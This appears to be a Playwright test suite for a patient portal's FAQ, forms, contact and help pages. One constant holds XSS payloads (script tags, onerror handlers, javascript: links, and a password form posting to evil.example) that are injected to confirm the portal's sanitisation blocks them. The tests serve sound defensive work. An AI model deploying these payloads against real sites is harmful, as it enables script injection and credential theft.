import type { Page } from 'playwright';
import { look } from '../../support/pageRules.ts';
import { expectAllIn } from '../../support/seenWords.ts';
import { comesBack } from '../../support/tryAgain.ts';
import { expect, signInAs, test, text } from '../../support/test.ts';

// Some answers are faked below, which is impossible for requests that pass through the service worker.
test.use({ serviceWorkers: 'block' });

test.use({ contextOptions: { reducedMotion: 'reduce' } });

const button = (page: Page, name: string | RegExp) => page.getByRole('button', { name });
const heading = (page: Page, name: string) => page.getByRole('heading', { level: 1, name, exact: true });
const fail = (page: Page, path: RegExp) =>
  page.route(path, (route) =>
    route.fulfill({ status: 500, contentType: 'application/json', body: '{"error":"unexpected"}' }),
  );
const paths = {
  faqs: '/faqs',
  usefulLinks: '/useful-links',
  downloadForms: '/download-forms',
  contactUs: '/contact-us',
  help: '/help',
} as const;

test('the pages of the facility break no rule', async ({ facility, page }) => {
  await signInAs(page, facility, 'patient', { path: `/login?redirect=${paths.faqs}` });
  const first = page.getByText('How soon will I see my test results?');
  await first.click();
  await expect(page.getByText('Your care team may want to talk with you first.')).toBeVisible();
  await look(page, 'faqs');
  for (const [key, seen] of [
    ['usefulLinks', 'MedlinePlus'],
    ['downloadForms', 'New patient form'],
    ['contactUs', 'Nurse line'],
    ['help', 'For help with your account'],
  ] as const) {
    await page.goto(`${facility.portalUrl}${paths[key]}`);
    await expect(heading(page, text(`facility.${key}`))).toBeVisible();
    await expect(page.getByText(seen).first()).toBeVisible();
    await look(page, key);
  }
});

test('/faqs: a question opens and closes by keyboard, in view order, in the language of the moment', async ({
  facility,
  page,
}) => {
  // The language is stored with the person, so each language needs a new one.
  const { username } = await facility.newPatient();
  await signInAs(page, facility, username, { path: `/login?redirect=${paths.faqs}` });
  const questions = page.locator('summary');
  await expect(questions.first()).toHaveText('How soon will I see my test results?');
  await expect(questions).toHaveCount(6);
  await questions.nth(1).focus();
  await page.keyboard.press('Enter');
  await expect(page.getByText('Please do not share your password.')).toBeVisible();
  await page.keyboard.press('Enter');
  await expect(page.getByText('Please do not share your password.')).toBeHidden();
  await facility.db.query(
    "update facility_faqs set view_order = 1 where language = 'es' and question like '¿Puedo usar el portal%'",
  );
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.getByRole('button', { name: 'English' }).click();
  await page
    .getByRole('menuitem', { name: 'Español' })
    .or(page.getByRole('button', { name: 'Español' }))
    .click();
  await expect(questions.first()).toHaveText('¿Puedo usar el portal sin internet?');
  for (const [key, seen] of [
    ['faqs', '¿Puedo usar'],
    ['usefulLinks', 'MedlinePlus en español'],
    ['downloadForms', 'Formulario para pacientes nuevos'],
    ['contactUs', 'Línea de enfermería'],
    ['help', 'Para recibir ayuda'],
  ] as const) {
    await page.goto(`${facility.portalUrl}${paths[key]}`);
    await expect(page.getByText(seen).first()).toBeVisible();
    await expectAllIn(page, 'es', key);
  }
});

const planted = `<p onclick="window.ran=1" style="position:fixed;inset:0;background:url(https://evil.example/style.png)">Planted words
  <script>window.ran = 1</script><script src="https://evil.example/x.js"></script>
  <img src="https://evil.example/x.png" onerror="window.ran = 1"><svg onload="window.ran = 1"><a href="javascript:window.ran=1"><text>svg</text></a></svg>
  <a href="javascript:window.ran = 1">press me</a> <a href="//evil.example/">go</a> <a href="https://example.org/">good link</a></p>
  <form action="https://evil.example/take"><input name="password" autofocus onfocus="window.ran = 1"><button>Log in</button></form>
  <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><link rel="stylesheet" href="https://evil.example/x.css">
  <style>body { display: none } @import url(https://evil.example/y.css);</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
  <video src="https://evil.example/v" poster="https://evil.example/p" onerror="window.ran = 1"></video><math><mtext><style><img src=x onerror="window.ran=1"></style></mtext></math>`;

/** Without the check that the page's policy never reports a violation: it also reports what an inert parser has read. */
const testOfParser = test.extend({
  // oxlint-disable-next-line no-empty-pattern -- the runner reads the names of the fixtures from the pattern
  noPageErrors: async ({}, provide) => {
    await provide();
  },
});

for (const way of ['from the database', 'from a server that sanitises nothing'] as const) {
  (way === 'from the database' ? test : testOfParser)(
    `hostile HTML in questions, answers, links, instructions and help, ${way}: nothing runs, nothing is fetched`,
    async ({ facility, page }) => {
      const fetched: string[] = [];
      page.on('request', (request) => {
        if (new URL(request.url()).hostname.endsWith('evil.example')) fetched.push(request.url());
      });
      if (way === 'from the database') {
        await facility.db.query(
          "update facility_faqs set question = $1, answer = $1 where language = 'en' and view_order = 10",
          [planted],
        );
        await facility.db.query(
          "update facility_texts set content = $1 where language = 'en' and content_key in ('usefulLinksContent', 'ContactUsHeading', 'Help')",
          [planted],
        );
      } else {
        await page.route(/\/faqs\?/, (route) =>
          route.fulfill({ json: [{ question: planted, answer: planted, viewOrder: 1 }] }),
        );
        await page.route(/\/api\/content\//, (route) => route.fulfill({ json: { content: planted } }));
      }
      await signInAs(page, facility, 'patient', { path: `/login?redirect=${paths.faqs}` });
      for (const path of [paths.faqs, paths.usefulLinks, paths.contactUs, paths.help]) {
        if (path !== paths.faqs) await page.goto(`${facility.portalUrl}${path}`);
        const shown = page.locator('main');
        await expect(shown.getByText('Planted words').first()).toBeVisible();
        if (path === paths.faqs) await page.locator('summary').first().click();
        await expect(shown.getByRole('link', { name: 'good link' }).first()).toHaveAttribute(
          'rel',
          'noopener noreferrer',
        );
        await expect(
          shown.locator(
            'script, img, svg a, form, input, iframe, object, embed, style, link, base, meta, video, [onclick], [onerror], p[style], a[href^="javascript:"], a[href^="//"]',
          ),
        ).toHaveCount(0);
        const press = shown.getByText('press me').last();
        if (await press.isVisible()) await press.click();
        expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
        expect(new URL(page.url()).pathname).toBe(path);
      }
      expect(fetched).toEqual([]);
    },
  );
}

test('/download-forms: sizes, order, a form elsewhere, a form here in a window of its own', async ({
  facility,
  page,
  context,
}) => {
  await facility.db.query(
    "update facility_forms set view_order = 5 where language = 'en' and title = 'Travel cost claim' and facility_id = 1",
  );
  await facility.db.query(
    "update facility_forms set file = decode(repeat('00', 1234567), 'hex') where language = 'en' and title = 'New patient form' and facility_id = 1",
  );
  await signInAs(page, facility, 'patient', { path: `/login?redirect=${paths.downloadForms}` });
  const rows = page.locator('main li');
  await expect(rows).toHaveCount(4);
  await expect(rows.nth(0)).toContainText('Travel cost claim');
  await expect(rows.nth(1)).toContainText('PDF, 1,234.57 KB');
  const elsewhere = page.getByRole('link', { name: /Medicine list card/ });
  await expect(elsewhere).toHaveAttribute('target', '_blank');
  await expect(elsewhere).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(page.getByRole('link', { name: new RegExp(text('facility.getPdfReader')) })).toHaveAttribute(
    'href',
    /^https:/,
  );

  await test.step('the file comes with a ticket, and the new window has nothing of the session', async () => {
    let left: string | null = null;
    await page.exposeFunction('leftInWindow', (found: string) => (left = found));
    await page.evaluate(() => {
      const open = window.open.bind(window);
      window.open = (...given) => {
        const opened = open(...given);
        queueMicrotask(() =>
          Reflect.get(
            window,
            'leftInWindow',
          )(`${opened?.sessionStorage.length} keys, opener ${opened?.opener === null ? 'gone' : 'there'}`),
        );
        return opened;
      };
    });
    const [opened, sent] = await Promise.all([
      context.waitForEvent('page'),
      context.waitForEvent('request', (request) => /downloadableContent\/\d+\?token=/.test(request.url())),
      button(page, /Travel cost claim/).click(),
    ]);
    expect(sent.isNavigationRequest()).toBe(true);
    expect(await sent.headerValue('authorization')).toBeNull();
    const response = await sent.response();
    expect(response?.status()).toBe(200);
    expect(response?.headers()['content-disposition']).toMatch(/^inline; filename="form-\d+\.pdf"$/);
    expect(left).toBe('0 keys, opener gone');
    await opened.close();
    const used = await context.newPage();
    const again = await used.goto(sent.url());
    expect(again?.status()).toBe(404);
    await expect(used.getByText('This address opens its file only once.')).toBeVisible();
    await expect(used.getByRole('link')).toHaveAttribute('href', '/');
    await used.close();
    expect(await facility.db.value('select count(*)::int from download_tickets')).toBe(0);
    await page.reload();
    await expect(rows).toHaveCount(4);
  });

  await test.step('a browser that keeps the window closed gets a link', async () => {
    await page.evaluate(() => {
      window.open = () => null;
    });
    await button(page, /Travel cost claim/).click();
    const link = page.getByRole('status').getByRole('link', { name: 'Travel cost claim' });
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    const [sent] = await Promise.all([
      context.waitForEvent('request', (request) => /downloadableContent\/\d+\?token=/.test(request.url())),
      link.click(),
    ]);
    expect((await sent.response())?.status()).toBe(200);
    await expect(link).toBeHidden();
    await page.reload();
  });

  await test.step('a ticket that cannot be had: the window closes, the page says so, a second press works', async () => {
    await fail(page, /downloadTokens/);
    const before = context.pages().length;
    await button(page, /Travel cost claim/).click();
    await expect(page.getByText(text('facility.formFailed', { title: 'Travel cost claim' }))).toBeVisible();
    await expect.poll(() => context.pages().length).toBe(before);
    await page.unroute(/downloadTokens/);
    const [sent] = await Promise.all([
      context.waitForEvent('request', (request) => /downloadableContent\/\d+\?token=/.test(request.url())),
      button(page, /Travel cost claim/).click(),
    ]);
    expect((await sent.response())?.status()).toBe(200);
    await expect(page.getByText(text('facility.formFailed', { title: 'Travel cost claim' }))).toBeHidden();
  });
});

test('/contact-us: instructions, contacts in sort order, telephone numbers in one way; noInstructionsInContactUs, noContactsInContactUs', async ({
  facility,
  page,
}) => {
  await facility.db.query(
    "update facility_texts set content = '<p>Call the front desk.</p>' where language = 'en' and content_key = 'ContactUsHeading'",
  );
  await page.setViewportSize({ width: 1280, height: 900 });
  await signInAs(page, facility, 'patient', { path: `/login?redirect=${paths.contactUs}` });
  await expect(page.getByText('Call the front desk.')).toBeVisible();
  const rows = page.getByRole('table', { name: text('facility.contacts') }).getByRole('row');
  await expect(rows).toHaveCount(5);
  await expect(rows.nth(1)).toContainText('Front desk and appointments');
  await expect(rows.nth(1).getByRole('link', { name: '(555) 010-0142' })).toHaveAttribute('href', 'tel:5550100142');
  await expect(rows.nth(2).getByRole('link', { name: '(555) 010-0144' })).toBeVisible();
  await expect(rows.nth(3).getByRole('link', { name: '010-0145' })).toBeVisible();
  await expect(rows.nth(1).getByRole('link', { name: 'welcome@northlight.example' })).toHaveAttribute(
    'href',
    'mailto:welcome@northlight.example',
  );
  await page.setViewportSize({ width: 390, height: 844 });
  await expect(rows.filter({ hasText: 'Medical records' }).getByRole('link', { name: '010-0145' })).toBeVisible();
  await expect(page.getByText('Building 2')).toBeHidden();
  await page.getByRole('button', { name: text('table.showMore', { name: 'Medical records' }) }).click();
  await expect(page.getByText('Building 2')).toBeVisible();
  await expect(rows.filter({ hasText: 'Medical records' }).getByText('United States')).toBeVisible();

  for (const [path, code] of [
    [/ContactUsHeading/, 'bar.noInstructionsInContactUs'],
    [/\/contacts/, 'bar.noContactsInContactUs'],
  ] as const) {
    await fail(page, path);
    await page.reload();
    await expect(page.getByText(text(code))).toBeVisible();
    await expect(
      page.getByText(code === 'bar.noContactsInContactUs' ? 'Nurse line' : 'Call the front desk.'),
    ).toBeHidden();
    await page.unroute(path);
    await comesBack(page, page.getByText(code === 'bar.noContactsInContactUs' ? 'Nurse line' : 'Call the front desk.'));
    await expect(page.getByText(text(code))).toBeHidden();
  }
});

test('each page: slow, failed, without a connection, and empty, each with a way on', async ({ facility, page }) => {
  await signInAs(page, facility, 'patient', { path: `/login?redirect=${paths.help}` });
  await expect(page.getByText(text('facility.helpOfflinePrivate'))).toBeVisible();

  await test.step('slower than 500 ms: the shape of what is coming', async () => {
    let answer: () => void = () => undefined;
    await page.route(/\/faqs\?/, async (route) => {
      await new Promise<void>((go) => {
        answer = go;
      });
      await route.fallback();
    });
    await page.goto(`${facility.portalUrl}${paths.faqs}`);
    await expect(page.getByRole('status').filter({ hasText: text('core.loading') })).toBeVisible();
    answer();
    await expect(page.locator('summary').first()).toBeVisible();
    await page.unroute(/\/faqs\?/);
  });

  for (const [path, call, back] of [
    [paths.faqs, /\/faqs\?/, 'summary'],
    [paths.usefulLinks, /usefulLinksContent/, 'main a'],
    [paths.downloadForms, /downloadableContent\?/, 'main li'],
  ] as const) {
    await test.step(`failed: ${path}`, async () => {
      await fail(page, call);
      await page.goto(`${facility.portalUrl}${path}`);
      await expect(page.getByRole('heading', { name: text('records.failed') })).toBeVisible();
      await expect(page.getByText(text('records.failedText'))).toBeVisible();
      await expect(page.getByText(text('bar.unspecified'))).toHaveCount(0);
      await page.unroute(call);
      await comesBack(page, page.locator(back).first());
    });
  }

  await test.step('without a connection: the page says so, and comes with it', async () => {
    await page.route(/\/faqs\?/, (route) => route.abort());
    // The device has no offline copy of the page.
    await page.addInitScript(() => localStorage.removeItem('vestibule.kept'));
    await page.goto(`${facility.portalUrl}${paths.faqs}`);
    await expect(page.getByRole('heading', { name: text('records.offline') })).toBeVisible();
    await page.unroute(/\/faqs\?/);
    await comesBack(page, page.locator('summary').first());
  });

  await test.step('empty, and switched off', async () => {
    await facility.db.query('delete from facility_faqs where facility_id = 1');
    await page.goto(`${facility.portalUrl}${paths.faqs}`);
    await expect(page.getByRole('heading', { name: text('facility.noFaqs') })).toBeVisible();
    await facility.db.query(
      "update facilities set has_downloadable_forms = false, capabilities = capabilities - 'ContactUs' where id = 1",
    );
    await page.goto(`${facility.portalUrl}${paths.contactUs}`);
    await expect(page.getByText(text('layout.notForYouTitle'))).toBeVisible();
    // A page with a stored copy learns a moment later that it is switched off; until then it shows that there are no forms.
    await page.goto(`${facility.portalUrl}${paths.downloadForms}`);
    await expect(
      page.getByText(text('layout.notForYouTitle')).or(page.getByText(text('facility.noForms'))),
    ).toBeVisible();
    await page.goto(`${facility.portalUrl}${paths.help}`);
    await expect(page.getByText(text('facility.helpReachNoPage'))).toBeVisible();
  });
});
